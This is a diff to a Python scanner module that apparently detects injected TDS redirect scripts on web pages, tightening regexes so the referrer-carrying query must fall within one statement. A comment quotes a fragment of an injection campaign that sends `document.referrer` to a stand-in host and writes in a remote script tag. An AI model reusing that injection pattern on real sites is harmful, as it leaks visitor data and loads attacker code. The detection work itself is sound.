@@ -259,31 +259,52 @@ def _counts_without_script(ctx: PageContext, host: str, tag: re.Match[str]) -> b
 # snt2014 campaign's `var se_referrer = encodeURIComponent(document.referrer); var base =
 # "http://x.test/js/jquery.min.php"; var n_url = base + "?default_keyword=" + … +
 # "&se_referrer=" + se_referrer; … document.write('<script src="' + f_url + '">…')`): a
-# name given the referrer, joined as a query's value; a name given a site's address, a
-# query joined to it
+# name given the referrer, joined as a value of the query joined to a name given a site's
+# address, in one statement
 _REFERRER_NAMED = lazy_regex(
     r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*=\s*(?:(?:encodeURIComponent|encodeURI|escape)"""
     r"""\s*\(\s*)?document\s*\.\s*referrer\b""")
 _JOINED_AS_VALUE = lazy_regex(r"""=['"]\s*\+\s*([A-Za-z_$][\w$]{0,40})(?![\w$])""")
 _QUERY_JOINED = lazy_regex(r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*\+\s*['"][?&]""")
+# a statement's end: a semicolon, or a line break no joining `+` continues
+_STATEMENT_END = lazy_regex(r""";|\n(?![ \t]{0,40}\+)""")
+
+
+def _statement_end(code: str, start: int) -> int:
+    """Where the statement holding `start` ends (`_STATEMENT_END`), past line breaks a
+    line's trailing `+` joins on (`base + "?a=" + a +` / `"&b=" + b;`)."""
+    while (stop := _STATEMENT_END.search(code, start)) is not None:
+        if stop.group() == ";" or not code[max(0, stop.start() - 40) : stop.start()].rstrip(
+                " \t\r").endswith("+"):
+            return stop.start()
+        start = stop.end()
+    return len(code)
 _ADDRESS_NAMED = lazy_regex(
     r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*=\s*['"]((?:https?:)?//[^'"\s<>]+)['"]""")
 
 
 def _referrer_handed(ctx: PageContext, code: str) -> str | None:
     """The host `_referrer_keyed` names where the script hands the referrer and the
-    address through names (`_REFERRER_NAMED`): the referrer's name joined as a query
-    value, a query joined to a name given the address of another site no vendor runs, and
-    the query a TDS's own (`_TDS_PARAMS`: a counter's beacon built the same way names
-    none of them). Each pattern runs once over the script."""
+    address through names (`_REFERRER_NAMED`): in one statement, a query joined to a name
+    given the address of another site no vendor runs, the referrer's name joined as one of
+    its values, and the query a TDS's own (`_TDS_PARAMS`: a counter's beacon built the
+    same way names none of them). A statement is read from its first such query to its
+    end, once: each pattern runs once over the script."""
     if not _TDS_PARAMS.search(code):
         return None
     given = {m.group(1) for m in _REFERRER_NAMED.finditer(code)}
-    if not given or not given & {m.group(1) for m in _JOINED_AS_VALUE.finditer(code)}:
+    if not given:
         return None
-    queried = {m.group(1) for m in _QUERY_JOINED.finditer(code)}
-    for m in _ADDRESS_NAMED.finditer(code):
-        if m.group(1) in queried and (host := unknown_site(ctx, m.group(2))) is not None:
+    addresses = {m.group(1): m.group(2) for m in _ADDRESS_NAMED.finditer(code)}
+    end = -1
+    for m in _QUERY_JOINED.finditer(code):
+        if m.start() < end or m.group(1) not in addresses:
+            continue
+        end = _statement_end(code, m.end())
+        statement = code[m.start() : end]
+        if _TDS_PARAMS.search(statement) and given & {
+                j.group(1) for j in _JOINED_AS_VALUE.finditer(statement)} and (
+                host := unknown_site(ctx, addresses[m.group(1)])) is not None:
             return host
     return None
 
